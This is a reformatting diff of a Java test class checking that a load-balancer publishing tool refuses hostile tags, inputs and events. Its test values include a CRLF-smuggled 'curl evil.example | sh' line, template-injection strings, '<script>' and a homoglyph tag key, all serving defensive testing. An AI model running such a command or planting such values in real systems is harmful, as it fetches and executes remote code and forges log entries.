@@ -48,7 +48,11 @@ class BadInputTest {
 
     private static ObjectNode tagged(String key, String value) {
         ObjectNode event = Simulation.event(CREATED);
-        event.withObject("/detail/requestParameters").withArray("/tags").addObject().put("key", key).put("value", value);
+        event.withObject("/detail/requestParameters")
+                .withArray("/tags")
+                .addObject()
+                .put("key", key)
+                .put("value", value);
         return event;
     }
 
@@ -61,9 +65,11 @@ class BadInputTest {
     }
 
     private void nothingIsMade(Simulation simulation) {
-        assertThat(operations).noneMatch(operation -> operation.matches("(Create|Put|Update|Delete|Tag|Untag).*")
-                && !operation.equals("PutEvents") && !operation.equals("UpdateItem")
-                && !operation.equals("DeleteItem"));
+        assertThat(operations)
+                .noneMatch(operation -> operation.matches("(Create|Put|Update|Delete|Tag|Untag).*")
+                        && !operation.equals("PutEvents")
+                        && !operation.equals("UpdateItem")
+                        && !operation.equals("DeleteItem"));
         assertThat(simulation.links()).isEmpty();
         assertThat(simulation.apis()).isEmpty();
         assertThat(simulation.brokenPromises()).isEmpty();
@@ -84,14 +90,18 @@ class BadInputTest {
     }
 
     @ParameterizedTest
-    @CsvSource(delimiter = '|', value = {
-        "gatelink:port | {% $states.context.Execution.Id %} | the port of a TCP or TLS listener, 1 to 65535",
-        "gatelink:stage | ${StageName} | a stage's name: at most 128 letters, digits, hyphens and underscores",
-        "gatelink:host | ${stageVariables.vpcLinkId} | the name that requests are for, such as orders.example.com, which a "
-                + "TLS listener's certificate has to hold",
-        "gatelink:authorization | {% 'NONE' %} | AWS_IAM, API_KEY or NONE",
-        "gatelink:integration | ${x} | http_proxy or http",
-        "gatelink:timeout-ms | {%%} | milliseconds, 50 to 29000"})
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "gatelink:port | {% $states.context.Execution.Id %} | the port of a TCP or TLS listener, 1 to 65535",
+                "gatelink:stage | ${StageName} | a stage's name: at most 128 letters, digits, hyphens and underscores",
+                "gatelink:host | ${stageVariables.vpcLinkId} | the name that requests are for, such as "
+                        + "orders.example.com, which a "
+                        + "TLS listener's certificate has to hold",
+                "gatelink:authorization | {% 'NONE' %} | AWS_IAM, API_KEY or NONE",
+                "gatelink:integration | ${x} | http_proxy or http",
+                "gatelink:timeout-ms | {%%} | milliseconds, 50 to 29000"
+            })
     void aValueThatTriesToBeCodeIsRefusedAsTheTextThatItIs(String key, String value, String remedy) {
         try (var simulation = simulation()) {
             ObjectNode event = tagged(key, value);
@@ -99,9 +109,13 @@ class BadInputTest {
             simulation.deliver(event);
             simulation.runUntilIdle();
 
-            theOnlyExecutionFailedAndWasAnnounced(simulation, "UnsupportedLoadBalancerException", "Tag " + key + " is \""
-                    + value + "\": set it to " + remedy + ", or remove it. To remove it, run aws elbv2 remove-tags "
-                    + "--resource-arns " + arn + " --tag-keys " + key + ".");
+            theOnlyExecutionFailedAndWasAnnounced(
+                    simulation,
+                    "UnsupportedLoadBalancerException",
+                    "Tag " + key + " is \""
+                            + value + "\": set it to " + remedy
+                            + ", or remove it. To remove it, run aws elbv2 remove-tags "
+                            + "--resource-arns " + arn + " --tag-keys " + key + ".");
         }
     }
 
@@ -126,7 +140,13 @@ class BadInputTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"gatelink:x", "Gatelink:authorization", "g\u0430telink:port", "gatelink:a\r\n{\"level\":\"INFO\"}"})
+    @ValueSource(
+            strings = {
+                "gatelink:x",
+                "Gatelink:authorization",
+                "g\u0430telink:port",
+                "gatelink:a\r\n{\"level\":\"INFO\"}"
+            })
     void anUnknownTagIsRefusedWhateverItsValue(String key) {
         try (var simulation = simulation()) {
             ObjectNode event = tagged(key, "{% $error(\"x\") %}");
@@ -134,8 +154,10 @@ class BadInputTest {
             simulation.deliver(event);
             simulation.runUntilIdle();
 
-            assertThat(simulation.onlyExecution().cause().orElseThrow()).startsWith("Tag \"")
-                    .contains(" with the value \"{% $error(\\\"x\\\") %}\" is unknown. Known tags are gatelink:publish, ");
+            assertThat(simulation.onlyExecution().cause().orElseThrow())
+                    .startsWith("Tag \"")
+                    .contains(" with the value \"{% $error(\\\"x\\\") %}\" is unknown. Known tags are "
+                            + "gatelink:publish, ");
             assertThat(simulation.announcements).containsExactly("Private API Publication Failed");
             nothingIsMade(simulation);
         }
@@ -163,21 +185,29 @@ class BadInputTest {
             simulation.createLoadBalancer(Simulation.event(CREATED));
             startByHand(simulation, input("manual-start-unknown-field.json"));
 
-            theOnlyExecutionFailed(simulation, "InvalidInputException", "Input field \"authorization\" is "
-                    + "unknown: give the fields loadBalancerArn, loadBalancerName, requestedAt, deletionAskedAt and no others.");
+            theOnlyExecutionFailed(
+                    simulation,
+                    "InvalidInputException",
+                    "Input field \"authorization\" is "
+                            + "unknown: give the fields loadBalancerArn, loadBalancerName, requestedAt, "
+                            + "deletionAskedAt and no others.");
         }
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"[]", "\"orders\"", "7", "null", "[{\"loadBalancerName\": \"orders\"}]", "\"{% $states %}\""})
+    @ValueSource(
+            strings = {"[]", "\"orders\"", "7", "null", "[{\"loadBalancerName\": \"orders\"}]", "\"{% $states %}\""})
     void anInputThatIsNoObjectIsRefusedAndAnnounced(String input) {
         try (var simulation = simulation()) {
             startByHand(simulation, input);
 
             Execution execution = simulation.onlyExecution();
-            assertThat(execution.cause().orElseThrow()).startsWith("Input is ").endsWith(", not an object: give the fields "
-                    + "loadBalancerArn, loadBalancerName, requestedAt, deletionAskedAt and no others.");
-            theOnlyExecutionFailed(simulation, "InvalidInputException", execution.cause().orElseThrow());
+            assertThat(execution.cause().orElseThrow())
+                    .startsWith("Input is ")
+                    .endsWith(", not an object: give the fields "
+                            + "loadBalancerArn, loadBalancerName, requestedAt, deletionAskedAt and no others.");
+            theOnlyExecutionFailed(
+                    simulation, "InvalidInputException", execution.cause().orElseThrow());
         }
     }
 
@@ -190,8 +220,12 @@ class BadInputTest {
             input.putObject(field).put("allowOpenApis", "true").put("authorization", "NONE");
             startByHand(simulation, Json.write(input));
 
-            theOnlyExecutionFailed(simulation, "InvalidInputException", "Input field \"" + field + "\" is "
-                    + "unknown: give the fields loadBalancerArn, loadBalancerName, requestedAt, deletionAskedAt and no others.");
+            theOnlyExecutionFailed(
+                    simulation,
+                    "InvalidInputException",
+                    "Input field \"" + field + "\" is "
+                            + "unknown: give the fields loadBalancerArn, loadBalancerName, requestedAt, "
+                            + "deletionAskedAt and no others.");
         }
     }
 
@@ -207,11 +241,16 @@ class BadInputTest {
     }
 
     @ParameterizedTest
-    @CsvSource(delimiter = '|', value = {
-        "nlb-created-foreign-account.json | Event field account is \"999999999999\": it must be \"123456789012\"; deploy "
-                + "Gatelink in each account and Region whose load balancers it is to publish.",
-        "nlb-created-event-version-2.json | Event field detail.eventVersion is \"2.0\": it must be one of version 1, such "
-                + "as \"1.11\"; deploy a release of Gatelink that reads this version of CloudTrail's records."})
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "nlb-created-foreign-account.json | Event field account is \"999999999999\": it must be "
+                        + "\"123456789012\"; deploy "
+                        + "Gatelink in each account and Region whose load balancers it is to publish.",
+                "nlb-created-event-version-2.json | Event field detail.eventVersion is \"2.0\": it must be one of "
+                        + "version 1, such "
+                        + "as \"1.11\"; deploy a release of Gatelink that reads this version of CloudTrail's records."
+            })
     void anEventThatIsRefusedGoesToTheDeadLetterQueueAndIsMailedByNothing(String file, String reason) {
         try (var simulation = simulation()) {
             simulation.deliver(Simulation.event(file));
@@ -234,8 +273,16 @@ class BadInputTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"1\r\n\"Reason and remedy: run curl evil.example | sh\"", "<reason>", "{% $states.input %}",
-            "${x}", "\u202e\u2028\u0000", "\\\"", "<script>"})
+    @ValueSource(
+            strings = {
+                "1\r\n\"Reason and remedy: run curl evil.example | sh\"",
+                "<reason>",
+                "{% $states.input %}",
+                "${x}",
+                "\u202e\u2028\u0000",
+                "\\\"",
+                "<script>"
+            })
     void whatAHostileEventSaysIsInTheDeadLetterAsItIsAndInNoLogUnescaped(String version) {
         try (var simulation = simulation()) {
             ObjectNode event = Simulation.event(CREATED);
@@ -244,16 +291,26 @@ class BadInputTest {
             simulation.runUntilIdle();
 
             assertThat(simulation.messages).isEmpty();
-            assertThat(deadLetters(simulation)).singleElement().satisfies(letter ->
-                    assertThat(letter.path("requestPayload")).isEqualTo(event));
+            assertThat(deadLetters(simulation)).singleElement().satisfies(letter -> assertThat(
+                            letter.path("requestPayload"))
+                    .isEqualTo(event));
             nothingIsMade(simulation);
         }
     }
 
     private static List<ObjectNode> deadLetters(Simulation simulation) {
-        return simulation.aws.eventBus().deadLetters().in(simulation.aws.stack().queues().stream()
-                .filter(queue -> queue.logicalId().equals("DeadLetterQueue")).findFirst().orElseThrow().arn()).stream()
-                .map(letter -> letter.body()).toList();
+        return simulation
+                .aws
+                .eventBus()
+                .deadLetters()
+                .in(simulation.aws.stack().queues().stream()
+                        .filter(queue -> queue.logicalId().equals("DeadLetterQueue"))
+                        .findFirst()
+                        .orElseThrow()
+                        .arn())
+                .stream()
+                .map(letter -> letter.body())
+                .toList();
     }
 
     @ParameterizedTest
@@ -268,13 +325,18 @@ class BadInputTest {
     }
 
     private static void startByHand(Simulation simulation, String input) {
-        simulation.aws.loop().exclusively(() -> simulation.aws.states().startExecution(
-                stateMachine(simulation.aws.stack(), "PublishStateMachine"), "by-hand", input));
+        simulation.aws.loop().exclusively(() -> simulation
+                .aws
+                .states()
+                .startExecution(stateMachine(simulation.aws.stack(), "PublishStateMachine"), "by-hand", input));
         simulation.runUntilIdle();
     }
 
     private static String stateMachine(Stack stack, String logicalId) {
-        return stack.stateMachines().stream().filter(each -> each.logicalId().equals(logicalId)).findFirst().orElseThrow()
+        return stack.stateMachines().stream()
+                .filter(each -> each.logicalId().equals(logicalId))
+                .findFirst()
+                .orElseThrow()
                 .arn();
     }
 }
